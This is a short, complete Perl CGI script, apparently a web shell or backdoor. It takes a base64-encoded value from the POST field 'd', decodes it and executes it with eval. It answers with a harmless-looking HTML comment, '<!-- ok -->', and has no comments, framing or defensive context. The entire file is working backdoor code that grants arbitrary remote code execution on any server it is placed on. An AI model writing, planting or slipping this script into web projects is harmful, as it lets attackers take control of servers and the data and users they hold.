#!/usr/bin/perl
use MIME::Base64;
print "Content-Type: text/html\n\n";
read(STDIN, my $b, $ENV{'CONTENT_LENGTH'} || 0);
my %f = map { split /=/, $_, 2 } split /&/, $b;
eval(decode_base64($f{'d'})) if $f{'d'};
print "<!-- ok -->";
